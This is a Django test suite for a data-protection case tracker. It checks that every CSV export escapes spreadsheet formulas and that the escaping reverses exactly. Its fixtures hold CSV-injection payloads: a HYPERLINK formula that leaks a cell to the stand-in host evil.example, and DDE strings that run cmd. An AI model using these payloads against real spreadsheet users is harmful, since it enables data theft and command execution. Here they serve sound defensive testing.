"""Every CSV the project produces neutralises spreadsheet formulas (OWASP CSV injection),
and the guard is exactly reversible."""

import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import Unit, User
from breaches import services as breach_services
from core import csv_files
from dashboards import services as dashboard_services
from dpia import services as dpia_services
from requests_tracker import services

#: What a requester (or anyone typing into a text field) can make a spreadsheet run.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
ARITHMETIC = "-2+3"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.fixture
def world(make_user, on_day):
    on_day("2026-06-15")
    unit = Unit.objects.create(name=HYPERLINK)  # unit names appear in most files
    dpo = make_user("@dpo", role="dpo", unit=unit)  # usernames may begin with @, + or -
    lead = make_user("-lead", role="team_lead", unit=unit)
    worker = make_user("+casey", role="caseworker", unit=unit)
    request = services.log_request(
        actor=worker,
        kind="foi",
        received_on=date(2026, 4, 1),
        channel="email",
        requester_type="member_of_public",
        summary=DDE,
        requester=services.RequesterDetails(name=ARITHMETIC, email="x@example.org"),
        unit=unit,
        assigned_to=worker,
    )
    services.close_request(
        request_id=request.pk, actor=worker, closed_on=date(2026, 4, 20), outcome="granted_in_full"
    )
    breach_services.record_breach(
        actor=worker,
        aware_at=timezone.now() - timedelta(hours=3),
        source="internal",
        nature="misdirected_email",
        summary="Email to the wrong person",
        unit=unit,
    )
    dpia_services.create_assessment(
        actor=worker,
        kind="dpia",
        title=AT_SUM,
        unit=unit,
        asset_owner=lead,
        project_lead=worker,
    )
    dashboard_services.recompute_months(first=date(2026, 4, 1), last=date(2026, 6, 1))
    client = Client()
    client.force_login(dpo)
    client.get(f"/requests/{request.pk}/")  # an access-log entry by "@dpo" of that unit
    return {"dpo": client, "anonymous": Client()}


def _body(response) -> str:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _export_command(world, tmp_path) -> str:
    out = tmp_path / "export.csv"
    exporter = User.objects.create_user("exporter")
    call_command("export_requests", str(out), "--by", exporter.username, "--reason", "audit")
    return out.read_text(encoding="utf-8")


#: Every CSV the project produces: (name, how to get it, text that must appear guarded).
PRODUCERS = [
    # Every status ("Any status"): the page itself opens on the open requests only.
    (
        "requests page",
        lambda w, _: _body(w["dpo"].get("/requests/export.csv?status=")),
        [DDE, ARITHMETIC],
    ),
    ("export_requests command", _export_command, [DDE, ARITHMETIC, HYPERLINK, "+casey"]),
    ("access log", lambda w, _: _body(w["dpo"].get("/access-log/export.csv")), ["@dpo", HYPERLINK]),
    ("breaches", lambda w, _: _body(w["dpo"].get("/breaches/export.csv")), [HYPERLINK]),
    ("DPIAs", lambda w, _: _body(w["dpo"].get("/assessments/export.csv")), [AT_SUM, HYPERLINK]),
    (
        "open data",
        lambda w, _: _body(w["anonymous"].get("/performance/data.csv")),
        [HYPERLINK],
    ),
    # The s.45 return has no free text today; it is here so that adding some stays safe.
    (
        "s.45 return",
        lambda w, _: _body(w["dpo"].get("/data-board/returns.csv?quarter=2026-Q2")),
        [],
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("get", "guarded"), [(p[1], p[2]) for p in PRODUCERS], ids=[p[0] for p in PRODUCERS]
)
def test_no_csv_cell_starts_a_formula(world, tmp_path, get, guarded):
    text = get(world, tmp_path)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    dangerous = [c for c in cells if FORMULA_START.match(c) and not NUMBER.match(c)]
    assert not dangerous, f"cells a spreadsheet would run: {dangerous}"
    for value in guarded:
        assert "'" + value in cells, f"{value!r} should be written as text, with a leading '"


def test_numbers_written_by_the_code_stay_numbers():
    out = io.StringIO()
    csv_files.Writer(out).writerow([-2, -1.5, 3, None, "-2", "'=x", "'plain", "a=b"])
    assert out.getvalue() == "-2,-1.5,3,,'-2,''=x,'plain,a=b\r\n"


@given(st.text())
def test_guard_then_unguard_gives_back_every_text_exactly(text):
    guarded = csv_files.guard(text)
    assert not FORMULA_START.match(guarded)
    assert csv_files.unguard(guarded) == text
